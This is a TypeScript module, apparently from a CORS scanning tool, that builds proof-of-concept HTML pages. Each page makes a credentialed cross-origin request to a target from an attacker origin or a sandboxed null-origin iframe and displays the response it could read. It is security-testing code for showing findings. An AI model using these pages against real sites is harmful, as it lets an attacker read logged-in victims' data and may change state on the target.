/**
 * Proof-of-concept pages: one self-contained HTML document per finding that performs the cross-origin
 * request from the attacker's origin and shows what the browser let it read.
 *
 * - For a tuple origin, host the page at that origin (e.g. `https://corsight-attacker.com/poc.html`).
 * - For `null`, the page runs its script inside `<iframe sandbox="allow-scripts">` (srcdoc), whose
 *   origin is opaque, so the browser sends `Origin: null`; the frame posts the result to the page.
 * - A preflight finding makes the non-simple request the severity model found to pass (e.g. a `PUT` with
 *   `Content-Type: application/json`), so the browser sends the preflight first. That request may change
 *   state on the target: the page says so and waits for a click.
 */
import type { Scenario } from './replay.js';

/** What a PoC page needs. */
export interface PocInput {
  /** The check id and title, for the page heading. */
  check: string;
  title: string;
  /** The target URL. */
  url: string;
  /** The origin the page must be served from, or 'null'. */
  attackerOrigin: string;
  via: 'simple' | 'preflight';
  scenario: Scenario;
}

/** Escapes text for HTML element content and double-quoted attributes. */
export function escapeHtml(text: string): string {
  // Most texts (origins, titles, methods) have nothing to escape: one scan instead of five replacements.
  if (!/[&<>"']/.test(text)) return text;
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}

/** A JSON literal safe to embed in a `<script>` element (no `</script>`, no U+2028/2029 surprises). */
function scriptLiteral(value: unknown): string {
  const json = JSON.stringify(value);
  if (!/[<>\u2028\u2029]/.test(json)) return json;
  return json
    .replace(/</g, '\\u003c')
    .replace(/>/g, '\\u003e')
    .replace(/\u2028/g, '\\u2028')
    .replace(/\u2029/g, '\\u2029');
}

/** The script that performs the request and reports `{ ok, status, body | error }` through `report`. */
function requestScript(input: PocInput): string {
  const init: Record<string, unknown> = {
    method: input.scenario.method,
    credentials: input.scenario.credentials,
    mode: 'cors',
  };
  if (input.scenario.headers.length > 0) init.headers = Object.fromEntries(input.scenario.headers);
  if (
    input.scenario.method !== 'GET' &&
    input.scenario.method !== 'HEAD' &&
    input.scenario.headers.some(([n]) => n.toLowerCase() === 'content-type')
  ) {
    init.body = '{}';
  }
  return `(async () => {
  const url = ${scriptLiteral(input.url)};
  const init = ${scriptLiteral(init)};
  try {
    const response = await fetch(url, init);
    const body = await response.text();
    report({ ok: true, status: response.status, headers: [...response.headers].map(([n, v]) => n + ': ' + v).join('\\n'), body: body.slice(0, 20000) });
  } catch (error) {
    report({ ok: false, error: String(error) + ' (the browser refused: see the console for the CORS error)' });
  }
})();`;
}

/** Builds the PoC page for a finding. */
export function buildPoc(input: PocInput): string {
  const isNull = input.attackerOrigin === 'null';
  const unsafe = input.via === 'preflight';
  const where = isNull
    ? 'Open this page from any origin (even a file): the request is made from a sandboxed iframe, whose origin is <code>null</code>.'
    : `Serve this page from <code>${escapeHtml(input.attackerOrigin)}</code> and open it in a browser where the victim is logged in to the target.`;
  const show = `function show(result) {
  const out = document.getElementById('out');
  out.textContent = result.ok
    ? 'Read ' + result.status + ' from the target:\\n\\n' + result.headers + '\\n\\n' + result.body
    : 'Blocked: ' + result.error;
}`;
  const frame = isNull
    ? `const inner = ${scriptLiteral(`<!doctype html><script>function report(r){parent.postMessage(r,'*')}\n${requestScript(input)}</script>`)};
window.addEventListener('message', (event) => show(event.data));
function run() {
  const iframe = document.createElement('iframe');
  iframe.setAttribute('sandbox', 'allow-scripts');
  iframe.style.display = 'none';
  iframe.srcdoc = inner;
  document.body.appendChild(iframe);
}`
    : `function report(result) { show(result); }
function run() {
${requestScript(input)}
}`;
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>corsight PoC: ${escapeHtml(input.check)}</title>
<style>body{font:14px/1.4 system-ui,sans-serif;margin:2em;max-width:60em}pre{background:#f4f4f4;padding:1em;white-space:pre-wrap;word-break:break-all}</style>
</head>
<body>
<h1>${escapeHtml(input.title)}</h1>
<p>Target: <code>${escapeHtml(input.url)}</code></p>
<p>${where}</p>
<p>Request: <code>${escapeHtml(input.scenario.method)}</code> with credentials <code>${escapeHtml(input.scenario.credentials)}</code>${
    unsafe
      ? ' (non-simple, so the browser sends a CORS preflight first). <strong>This request may change state on the target.</strong>'
      : '.'
  }</p>
<button id="go">Run the cross-origin request</button>
<pre id="out">Not run yet.</pre>
<script>
${show}
${frame}
document.getElementById('go').addEventListener('click', run);
${unsafe ? '' : 'run();'}
</script>
</body>
</html>
`;
}
